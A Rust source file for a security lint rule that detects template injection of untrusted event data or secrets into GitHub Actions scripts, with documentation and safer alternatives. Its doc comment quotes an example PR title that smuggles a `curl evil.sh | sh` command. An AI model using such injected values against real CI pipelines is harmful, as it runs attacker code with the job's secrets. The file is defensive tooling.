//! ## What it does
//! Reports `${{ … }}` inside `run:` scripts and `actions/github-script` scripts
//! when the value can be chosen by someone else — pull request, issue and
//! comment text, branch names (`github.head_ref`), commit messages,
//! `workflow_dispatch` inputs, step and job outputs, `client_payload`, and
//! `env` variables holding any of these — or is a secret (`secrets.*`,
//! `github.token`). Values the workflow fixes itself (`github.sha`, literal
//! `env` values, matrix values) are not reported.
//!
//! ## Why is this bad
//! The expression is replaced by its text before the shell parses the script: a
//! title such as `"; curl evil.sh | sh; "` becomes code running with the job's
//! secrets and token. A secret pasted into the script lands in the script file
//! on the runner and breaks (or executes) on the first quote it contains.
//!
//! ## Example
//! ```yaml
//! - run: echo "${{ github.event.pull_request.title }}"
//! - run: echo "${{ secrets.KUBE_CONFIG }}" | base64 -d > ~/.kube/config
//! ```
//!
//! ## Use instead
//! ```yaml
//! - run: echo "$TITLE"
//!   env:
//!     TITLE: ${{ github.event.pull_request.title }}
//! - run: printf '%s' "$KUBE_CONFIG" | base64 -d > ~/.kube/config
//!   env:
//!     KUBE_CONFIG: ${{ secrets.KUBE_CONFIG }}
//! ```

use pipec_diagnostics::Severity;

use crate::facts::expr;
use crate::loc::{Loc, Part, YamlLoc};
use crate::rule::{Context, Findings, Group, Input, Rule};

pub static RULE: Rule = Rule {
    id: "PIPE203",
    name: "template-injection",
    summary: "no `${{ }}` expansion of untrusted values or secrets inside scripts",
    severity: Severity::Error,
    group: Group::Security,
    inputs: &[Input::GitHub],
    module: module_path!(),
    check: Some(check),
};

fn check(cx: &Context, out: &mut Findings) {
    for p in cx.pipelines() {
        for j in &p.jobs {
            for s in &j.scripts {
                let mut seen: Vec<&str> = Vec::new();
                for (_, text) in expr::expansions(&s.text) {
                    let nth = seen.iter().filter(|x| **x == text).count();
                    seen.push(text);
                    let Some(e) = expr::parse(text) else { continue };
                    let mut ctxs = Vec::new();
                    expr::contexts(&e, &mut ctxs);
                    let Some((ctx, danger)) = ctxs
                        .iter()
                        .find_map(|c| danger(c, &s.env, 0).map(|d| (c, d)))
                    else {
                        continue;
                    };
                    let at = match &s.loc {
                        Loc::Yaml(y) => Loc::Yaml(YamlLoc {
                            part: Part::Text {
                                needle: text.to_string(),
                                nth,
                            },
                            ..y.clone()
                        }),
                        other => other.clone(),
                    };
                    let lang = if s.javascript { "JavaScript" } else { "shell" };
                    let f = match danger {
                        Danger::Secret(name) => out.report(at, format!("secret `{name}` is pasted into the {lang} script's text")),
                        Danger::AllSecrets => out.report(at, format!("every secret is pasted into the {lang} script's text")),
                        Danger::Untrusted => out.report(at, format!("`{ctx}` is expanded into the {lang} script: whoever controls it can run code in this job")),
                    };
                    f.label("expanded before the script runs")
                        .help("pass it through `env:` and use the variable (\"$NAME\" in shell, process.env.NAME in JavaScript)");
                }
            }
        }
    }
}

enum Danger {
    Secret(String),
    AllSecrets,
    Untrusted,
}

/// Event fields that hold numbers, ids, hashes or flags.
const SAFE_LEAVES: &[&str] = &[
    "number",
    "id",
    "node_id",
    "sha",
    "before",
    "after",
    "merged",
    "draft",
    "created_at",
    "updated_at",
    "closed_at",
    "run_id",
    "run_number",
    "run_attempt",
    "action",
    "private",
    "fork",
    "size",
    "additions",
    "deletions",
    "changed_files",
    "commits",
    "comments",
];

fn danger(ctx: &str, env: &[(String, String)], depth: usize) -> Option<Danger> {
    if ctx == "secrets" {
        return Some(Danger::AllSecrets);
    }
    if let Some(name) = ctx.strip_prefix("secrets.") {
        return Some(Danger::Secret(name.to_string()));
    }
    if ctx == "github.token" {
        return Some(Danger::Secret("GITHUB_TOKEN".into()));
    }
    if ctx == "github.head_ref"
        || ctx.starts_with("inputs.")
        || ctx.starts_with("github.event.inputs.")
    {
        return Some(Danger::Untrusted);
    }
    if let Some(rest) = ctx.strip_prefix("github.event.") {
        let leaf = rest.rsplit('.').next().unwrap_or(rest);
        return (!SAFE_LEAVES.contains(&leaf)).then_some(Danger::Untrusted);
    }
    if (ctx.starts_with("steps.") || ctx.starts_with("needs.")) && ctx.contains(".outputs.") {
        return Some(Danger::Untrusted);
    }
    if let Some(name) = ctx.strip_prefix("env.")
        && depth < 3
    {
        let value = env.iter().rev().find(|(k, _)| k == name).map(|(_, v)| v)?;
        for (_, text) in expr::expansions(value) {
            let mut ctxs = Vec::new();
            if let Some(e) = expr::parse(text) {
                expr::contexts(&e, &mut ctxs);
            }
            if let Some(d) = ctxs.iter().find_map(|c| danger(c, env, depth + 1)) {
                return Some(d);
            }
        }
    }
    None
}
